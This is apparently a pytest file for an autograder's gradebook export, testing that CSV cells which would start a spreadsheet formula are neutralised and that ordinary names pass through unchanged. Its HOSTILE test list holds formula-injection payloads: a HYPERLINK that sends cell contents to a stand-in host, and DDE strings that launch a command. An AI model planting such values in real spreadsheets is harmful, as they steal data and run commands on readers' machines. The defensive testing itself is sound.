"""Tables of grades: text that a spreadsheet would compute stays text, and honest values read as what they are."""

import csv
import io
import re

import pytest
from nbgrader.api import Gradebook
from nbgrader.apps import ExportApp
from test_grade import RIGHT, hand_in

from autograder.gradebook.grade import _table
from autograder.gradebook.preprocessors import configure
from autograder.gradebook.record import Recorder, found_in
from autograder.gradebook.results import ClassResults, Status, StudentResult
from autograder.gradebook.tables import COLUMNS, as_csv, as_text

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"grades")',
    "=1+1",
    "=A1",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "x;=1+1",
    "x\n=1+1",
    "x\t+SUM(1)",
    "a|=1",
]
HONEST = [
    "amal",
    "@alice",
    "-bo",
    "+49 30 123456",
    "O'Brien, Zoë",
    "a=b",
    "x; y",
    "e-mail@example.org",
    "",
    "1.5",
    "李",
]


def cells_of(text):
    """The cells that a spreadsheet makes of a table, whichever of its separators it takes, and quotes or not."""
    for separator in ",;\t|":
        for line in re.split(r"[\r\n]", text):
            yield from (cell.strip(' "') for cell in line.split(separator))


@pytest.mark.parametrize("value", HOSTILE)
def test_no_cell_begins_like_a_formula_whatever_ends_a_cell(value):
    table = as_csv([dict.fromkeys(COLUMNS, "x") | {"student_id": value}])
    for cell in cells_of(table):
        assert not cell.startswith(("=", "＝", "+S", "-2", "@S")), cell
    (row,) = csv.DictReader(io.StringIO(table, newline=""))
    assert row["student_id"].replace("'", "") == value.replace("'", "").replace("\r", "\n")  # nothing else is changed


@pytest.mark.parametrize("value", HONEST)
def test_honest_values_read_as_they_are(value):
    assert as_text(value) == value
    (row,) = csv.DictReader(io.StringIO(as_csv([dict.fromkeys(COLUMNS, 0.5) | {"last_name": value, "email": None}])))
    assert (row["last_name"], row["email"], row["score"]) == (value, "", "0.5")


def test_the_table_of_a_class_holds_names_as_text(tiny):
    recorder = Recorder(tiny)
    name = '=HYPERLINK("x")'
    with recorder.gradebook() as gradebook:
        gradebook.update_or_create_student("bo", last_name="+SUM(1)", first_name="Bo")
    students = tuple(StudentResult(each, Status.GRADED, "", 1.0, 3.0) for each in (name, "bo"))
    rows = list(csv.DictReader(io.StringIO(_table(recorder, ClassResults("tiny", "", "", 3.0, students=students)))))
    assert [(row["student_id"], row["last_name"], row["score"]) for row in rows] == [
        (f"'{name}", "", "1.0"),
        ("bo", "'+SUM(1)", "1.0"),
    ]


def test_nbgraders_export_gives_no_points_for_what_was_taken_away_again(tiny, tmp_path, monkeypatch):
    for student in ("amal", "=bo"):
        hand_in(tiny, student, RIGHT)
        recorder = Recorder(tiny)
        recorder.sanitize(student, recorder.take(student))
        with recorder.gradebook() as gradebook:
            gradebook.find_grade("test_mean_squared_error", "tiny", "tiny", student).auto_score = 2
            gradebook.db.commit()
    hand_in(tiny, "cleo", RIGHT)
    config = configure(tiny.course)
    config.CsvExport.to = str(tmp_path / "table.csv")

    def exported():
        app = ExportApp(config=config)
        app.init_plugin()
        with Gradebook(tiny.course.database) as gradebook:
            app.plugin_inst.export(gradebook)
        with (tmp_path / "table.csv").open(newline="") as file:
            return {row["student_id"]: row["score"] for row in csv.DictReader(file)}

    assert exported() == {"amal": "2.0", "'=bo": "2.0"}
    (tiny.course.submitted / "amal" / "tiny" / "tiny.ipynb").unlink()
    assert exported() == {"amal": "0.0", "'=bo": "2.0"}
    assert found_in(tiny, "amal").place is None
